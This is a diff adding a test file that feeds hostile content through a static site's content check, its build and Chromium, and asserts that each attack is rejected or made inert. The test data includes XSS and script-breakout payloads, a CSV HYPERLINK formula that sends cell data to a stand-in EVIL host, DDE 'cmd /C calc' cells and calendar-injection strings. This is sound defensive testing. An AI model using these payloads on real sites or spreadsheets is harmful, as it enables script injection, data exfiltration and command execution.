@@ -1,0 +1,284 @@
+// Hostile content (tests/site/hostile/cases.ts) through the content check and through a real build:
+// each case is rejected with its file and field (or line) named, or comes out inert, in the built
+// files and in Chromium: no navigation, no dialog, no script, no extra calendar event, no formula,
+// no leaked bytes.
+import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
+import type { Element, Root, RootContent } from 'hast';
+import { fromHtml } from 'hast-util-from-html';
+import ICAL from 'ical.js';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { checkContent } from '../../scripts/lib/read-content';
+import { serve } from '../../scripts/serve.mjs';
+import { formatProblem } from '../../src/lib/content-errors';
+import { FIGURE_COLUMNS } from '../../src/lib/figure-data';
+import { launch } from '../helpers/browser';
+import { listFiles } from '../helpers/dist';
+import { EVIL, PWNED, SECRET, writeHostileSite } from './hostile/cases';
+import { hostileBuild } from './hostile/build';
+
+describe('the content check on hostile content', () => {
+  let root: string;
+  let problems: string[];
+  beforeAll(() => {
+    root = mkdtempSync(join(tmpdir(), 'hostile-check-'));
+    writeHostileSite(root, { withRejected: true });
+    problems = checkContent(root).problems.map(formatProblem);
+  });
+  afterAll(() => rmSync(root, { recursive: true, force: true }));
+
+  const of = (file: string) => problems.filter((p) => p.startsWith(`${file}: `));
+
+  it('rejects the symlinks in content/ and public/, naming each', () => {
+    expect(of('content/figures/linked.md')).toEqual([expect.stringMatching(/is a symbolic link.*commit the real file/)]);
+    expect(of('public/leak.txt')).toEqual([expect.stringMatching(/is a symbolic link.*commit the real file/)]);
+  });
+
+  it('rejects a right-to-left override in a title and a zero-width space in a name, naming file and field', () => {
+    expect(of('content/figures/hostile-bidi.md')).toEqual([expect.stringMatching(/^content\/figures\/hostile-bidi\.md: title: "title" holds an invisible U\+202E RIGHT-TO-LEFT OVERRIDE at character 9/)]);
+    expect(of('content/speakers/hostile-zero-width.md')).toEqual([expect.stringMatching(/^content\/speakers\/hostile-zero-width\.md: name: "name" holds an invisible U\+200B ZERO WIDTH SPACE/)]);
+  });
+
+  it('names the line and the construct of each attack in a Markdown body', () => {
+    const found = of('content/figures/hostile-body.md').map((p) => p.replace(/^content\/figures\/hostile-body\.md: body: /, '').replace(/: (remove it|link to).*$/, ''));
+    expect(found).toEqual([
+      'line 18: a <script> element',
+      'line 20: a javascript: address in a Markdown link',
+      'line 22: a javascript: address in href= on <a>',
+      'line 22: a data: address in href= on <a>',
+      'line 24: an event handler attribute (onerror=) on <img>',
+      'line 24: an event handler attribute (onload=) on <img>',
+      'line 26: a <meta http-equiv="refresh"> (a redirect)',
+      'line 28: a <iframe> element',
+      'line 30: a <style> element',
+      'line 32: a style attribute on <p>',
+      'line 34: a <form> element',
+      'line 34: a <button> element',
+      'line 36: a <base> element',
+      'line 38: a <svg> element',
+      'line 38: a <script> element',
+    ]);
+  });
+
+  it('names imports, exports, expressions and unsafe JSX in an MDX body, line by line', () => {
+    const found = of('content/background/hostile-mdx.mdx').map((p) => p.replace(/^content\/background\/hostile-mdx\.mdx: body: /, '').replace(/\): .*$/, ')').replace(/(\}|>|element|<a>|<img>): .*$/, '$1'));
+    expect(found).toEqual([
+      "line 7: an import or export (import { readFileSync } from 'node:fs')",
+      expect.stringMatching(/^line 9: an import or export \(export const leak = readFileSync/),
+      'line 13: an expression {leak}',
+      'line 15: an expression {leak}',
+      'line 17: a <script> element',
+      'line 19: a javascript: address in href= on <a>',
+      'line 21: an event handler attribute (onerror=) on <img>',
+      'line 23: a <iframe> element',
+      'line 25: an expression in the attributes of <Figure>',
+    ]);
+  });
+
+  it('accepts the cases the build must make inert, and nothing else is reported', () => {
+    const files = new Set(problems.map((p) => p.slice(0, p.indexOf(': '))));
+    expect([...files].sort()).toEqual([
+      'content/background/hostile-mdx.mdx',
+      'content/figures/hostile-bidi.md',
+      'content/figures/hostile-body.md',
+      'content/figures/linked.md',
+      'content/speakers/hostile-zero-width.md',
+      'public/leak.txt',
+    ]);
+  });
+});
+
+const text = (node: Root | RootContent): string => (node.type === 'text' ? node.value : 'children' in node ? node.children.map(text).join('') : '');
+const elements = (node: Root | RootContent): Element[] => [
+  ...(node.type === 'element' ? [node] : []),
+  ...('children' in node ? node.children.flatMap(elements) : []),
+];
+
+describe('the hostile build', () => {
+  let out: string;
+  let pages: { file: string; html: string; tree: Root }[];
+  beforeAll(async () => {
+    out = await hostileBuild();
+    pages = listFiles(out)
+      .filter((f) => f.endsWith('.html') && !f.startsWith('pagefind/'))
+      .map((file) => {
+        const html = readFileSync(join(out, file), 'utf8');
+        return { file, html, tree: fromHtml(html) };
+      });
+  }, 660_000);
+  const page = (file: string) => pages.find((p) => p.file === file)!;
+
+  it('built every hostile page', () => {
+    for (const f of ['figures/hostile-json-ld/index.html', 'figures/hostile-csv/index.html', 'figures/hostile-body/index.html', 'background/hostile-mdx/index.html', 'programme/hostile-calendar/index.html', 'conference/index.html']) {
+      expect(page(f), f).toBeDefined();
+    }
+  });
+
+  it('has, on no page, a redirect, a frame, a form, a base, an inline script, a handler, a style attribute or a javascript: or data: address', () => {
+    const found: string[] = [];
+    for (const { file, tree } of pages) {
+      for (const el of elements(tree)) {
+        const props = el.properties;
+        if (el.tagName === 'meta' && /refresh/i.test(String(props.httpEquiv ?? ''))) found.push(`${file}: meta refresh`);
+        if (['iframe', 'frame', 'object', 'embed', 'base', 'form'].includes(el.tagName) && !(el.tagName === 'form' && String(props.action ?? '').endsWith('/search/'))) found.push(`${file}: <${el.tagName}>`);
+        if (el.tagName === 'script' && !props.src && props.type !== 'application/ld+json') found.push(`${file}: inline script`);
+        for (const [name, value] of Object.entries(props)) {
+          if (/^on/i.test(name)) found.push(`${file}: ${name} on <${el.tagName}>`);
+          if (name === 'style') found.push(`${file}: style on <${el.tagName}>`);
+          if (['href', 'src', 'action'].includes(name) && /^\s*(javascript|data|vbscript):/i.test(String(value))) found.push(`${file}: ${name}=${String(value)}`);
+        }
+      }
+      if (/<style[\s>]/i.test(pagesBody(file))) found.push(`${file}: <style> in the body`);
+    }
+    expect(found).toEqual([]);
+
+    function pagesBody(file: string) {
+      const html = page(file).html;
+      return html.slice(html.search(/<\/head>/i));
+    }
+  });
+
+  it('keeps each JSON-LD block one whole script element, whose JSON reads back to the hostile text', () => {
+    const blocks = pages.flatMap(({ file, tree }) => elements(tree).filter((e) => e.tagName === 'script' && e.properties.type === 'application/ld+json').map((e) => ({ file, json: JSON.parse(text(e)) as unknown })));
+    expect(blocks.length).toBeGreaterThan(1);
+    const all = JSON.stringify(blocks.map((b) => b.json));
+    for (const hostile of [
+      `Forced labour</script><meta http-equiv=refresh content="0;url=${EVIL}"><script>window.${PWNED}=1</script>`,
+      `https://www.ilo.org/"></script><script>window.${PWNED}=1</script>`,
+    ]) {
+      expect(all).toContain(JSON.stringify(hostile).slice(1, -1));
+    }
+    const event = blocks.find((b) => b.file === 'conference/index.html')!.json as { location: { name: string } };
+    expect(event.location.name).toBe('Hofburg <!--<script');
+  });
+
+  it('keeps the rest of the conference page after the venue: its footer is there', () => {
+    const conference = page('conference/index.html');
+    expect(elements(conference.tree).some((e) => e.tagName === 'footer')).toBe(true);
+    expect(conference.html.trimEnd().endsWith('</html>')).toBe(true);
+  });
+
+  it('keeps the text of the Markdown body and drops every attack in it', () => {
+    const body = page('figures/hostile-body/index.html');
+    const main = elements(body.tree).find((e) => e.tagName === 'main')!;
+    const words = text(main);
+    for (const kept of ['Before the attacks.', 'After the attacks.', 'covering paragraph', 'click me', 'encoded link']) expect(words).toContain(kept);
+  });
+
+  it('runs no code of the MDX body during the build: the secret is in no built file, and <Figure> still renders', () => {
+    const leaks = listFiles(out).filter((f) => !/\.(pf_fragment|pf_index|pf_meta|pagefind|wasm|png)$/.test(f) && readFileSync(join(out, f), 'utf8').includes(SECRET));
+    expect(leaks).toEqual([]);
+    expect(existsSync(join(out, 'leak.txt'))).toBe(false);
+    const article = page('background/hostile-mdx/index.html');
+    expect(article.html).toContain('Before the attacks');
+    expect(article.html).toMatch(/href="\/figures\/forced-labour-2021\/"/);
+    expect(article.html).toMatch(/href="\/figures\/modern-slavery-2021\/"/);
+  });
+
+  it('writes no formula into figures.csv: every text cell that starts like one is neutralised, numbers stay numbers', () => {
+    const rows = parseCsv(readFileSync(join(out, 'data/figures.csv'), 'utf8'), { bom: true }) as string[][];
+    const header = rows[0]!;
+    expect(header).toEqual([...FIGURE_COLUMNS]);
+    const hostile = Object.fromEntries(header.map((c, i) => [c, rows.find((r) => r[0] === 'hostile-csv')![i]!]));
+    expect(hostile.title).toBe(`'=HYPERLINK("${EVIL}?"&A1,"Source")`);
+    expect(hostile.value).toBe('-5');
+    expect(hostile.display).toBe("'-2+3");
+    expect(hostile.scope).toBe("'+cmd|' /C calc'!A0");
+    expect(hostile.method).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    const formulas = rows.slice(1).flatMap((r) => r.map((cell, i) => ({ column: header[i]!, cell })).filter(({ column, cell }) => /^[=+\-@\t\r]/.test(cell) && !(['value', 'year', 'source_year'].includes(column) && /^-?\d+(\.\d+)?$/.test(cell))));
+    expect(formulas).toEqual([]);
+  });
+
+  it('writes exactly one event per session into the calendars, the lone CR included', () => {
+    const sessions = listFiles(out).filter((f) => /^programme\/[^/]+\.ics$/.test(f));
+    expect(sessions).toContain('programme/hostile-calendar.ics');
+    const events = (file: string) => new ICAL.Component(ICAL.parse(readFileSync(join(out, file), 'utf8'))).getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
+    const whole = events('programme.ics');
+    expect(whole).toHaveLength(sessions.length);
+    expect(whole.map((e) => e.uid)).not.toContain('injected@evil.example');
+    const one = events('programme/hostile-calendar.ics');
+    expect(one).toHaveLength(1);
+    expect(one[0]!.summary).toMatch(/^Opening\nEND:VEVENT\nBEGIN:VEVENT/);
+  });
+
+  describe('in Chromium', () => {
+    let server: { url: string; close: () => Promise<void> };
+    let browser: Browser;
+    let page: Page;
+    const dialogs: string[] = [];
+    const requests: string[] = [];
+    const errors: string[] = [];
+
+    beforeAll(async () => {
+      server = await serve({ dir: out, base: '/', port: 0 });
+      browser = await launch();
+      const context = await browser.newContext();
+      await context.addInitScript(() => {
+        const seen: string[] = ((window as unknown as { cspViolations: string[] }).cspViolations = []);
+        document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
+      });
+      page = await context.newPage();
+      page.on('dialog', (d) => {
+        dialogs.push(d.message());
+        void d.dismiss();
+      });
+      page.on('request', (r) => requests.push(r.url()));
+      page.on('pageerror', (e) => errors.push(e.message));
+    }, 660_000);
+    afterAll(async () => {
+      await browser?.close();
+      await server?.close();
+    });
+
+    it.each(['figures/', 'figures/hostile-json-ld/', 'figures/hostile-csv/', 'figures/hostile-body/', 'background/hostile-mdx/', 'conference/', 'programme/', 'programme/hostile-calendar/'])(
+      '%s stays put: no navigation, no dialog, no script, no request elsewhere, no policy violation',
+      async (path) => {
+        dialogs.length = 0;
+        requests.length = 0;
+        errors.length = 0;
+        const url = `${server.url}${path}`;
+        await page.goto(url, { waitUntil: 'load' });
+        await page.waitForTimeout(1200); // longer than any refresh delay the cases use
+        expect(page.url()).toBe(url);
+        expect(await page.evaluate((name) => name in window, PWNED)).toBe(false);
+        expect(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)).toEqual([]);
+        expect(dialogs).toEqual([]);
+        expect(errors).toEqual([]);
+        expect(requests.filter((r) => new URL(r).origin !== new URL(server.url).origin)).toEqual([]);
+        expect(await page.locator('footer').count()).toBeGreaterThan(0);
+      },
+    );
+
+    it('lets the would-be javascript: links do nothing when clicked', async () => {
+      for (const path of ['figures/hostile-body/', 'background/hostile-mdx/']) {
+        const url = `${server.url}${path}`;
+        await page.goto(url);
+        for (const label of ['click me', 'encoded link', 'data link']) {
+          const link = page.getByText(label, { exact: true });
+          if ((await link.count()) === 0) continue;
+          await link.first().click();
+          await page.waitForTimeout(200);
+          expect(page.url()).toBe(url);
+        }
+        expect(await page.evaluate((name) => name in window, PWNED)).toBe(false);
+        expect(dialogs).toEqual([]);
+      }
+    });
+
+    it('shows a search query in the page title without its bidirectional controls', async () => {
+      await page.goto(`${server.url}search/?q=${encodeURIComponent('\u202E27.6 million\u202C')}`);
+      await page.waitForFunction(() => document.title.includes('27.6 million'));
+      expect(await page.title()).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B-\u200D\u2060\uFEFF]/);
+    });
+
+    it('takes a malformed #%E0%A4%A on the programme without an error, and still filters', async () => {
+      errors.length = 0;
+      await page.goto(`${server.url}programme/#%E0%A4%A`);
+      await page.locator('[data-filter-form]').waitFor({ state: 'visible' });
+      expect(errors).toEqual([]);
+    });
+  });
+});
